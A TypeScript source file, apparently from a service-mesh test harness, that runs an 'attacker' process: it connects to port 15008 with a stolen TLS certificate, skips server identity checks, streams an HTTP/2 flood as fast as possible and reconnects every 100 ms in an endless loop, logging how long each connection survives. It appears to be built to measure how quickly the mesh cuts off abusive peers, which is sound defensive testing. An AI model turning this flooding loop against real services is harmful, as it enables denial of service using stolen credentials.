/**
 * The attacker, a process of its own in a namespace outside the mesh: opens a connection with a stolen
 * certificate, sends one flood as fast as it is taken, and begins anew a tenth of a second after it
 * was cut off. It writes a line when it got in, and one when it was cut: how many milliseconds it lasted.
 */
import { setTimeout as delay } from 'node:timers/promises';
import { connect, type TLSSocket } from 'node:tls';
import { FLOODS, type Flood, type Target } from './floods.ts';

export interface Orders {
  readonly flood: string;
  readonly address: string;
  readonly target: Target;
  readonly ca: string;
  readonly cert: string;
  readonly key: string;
}

const PIECES_AT_ONCE = 64;
const PAUSE_MS = 100;

async function attack(flood: Flood, orders: Orders): Promise<void> {
  const { ca, cert, key, address, target } = orders;
  const socket = connect({
    host: address,
    port: 15_008,
    ca,
    cert,
    key,
    ALPNProtocols: ['h2'],
    minVersion: 'TLSv1.3',
    checkServerIdentity: () => undefined,
  });
  const over = Promise.withResolvers<void>();
  socket.on('error', () => undefined).on('close', () => over.resolve());
  socket.resume();
  let started = 0;
  socket.once('secureConnect', () => {
    started = performance.now();
    console.log('{"in":true}');
    socket.write(flood.open(target));
    pump(socket, flood, target);
  });
  await over.promise;
  const ms = started === 0 ? -1 : Math.round(performance.now() - started);
  console.log(JSON.stringify({ ms, sent: socket.bytesWritten }));
}

function pump(socket: TLSSocket, flood: Flood, target: Target): void {
  let i = 1;
  const go = (): void => {
    if (socket.destroyed) return;
    const pieces = Array.from({ length: PIECES_AT_ONCE }, (_, n) => flood.next(i + n, target));
    i += PIECES_AT_ONCE;
    const bytes = Buffer.concat(pieces);
    if (bytes.length === 0) return;
    if (socket.write(bytes)) setImmediate(go);
    else socket.once('drain', go);
  };
  go();
}

if (import.meta.main) {
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- what run.ts passes
  const orders = JSON.parse(process.argv[2] ?? '') as Orders;
  const flood = FLOODS.find(({ name }) => name === orders.flood);
  if (flood === undefined) throw new RangeError(`no flood "${orders.flood}"`);
  for (;;) {
    await attack(flood, orders);
    await delay(PAUSE_MS);
  }
}
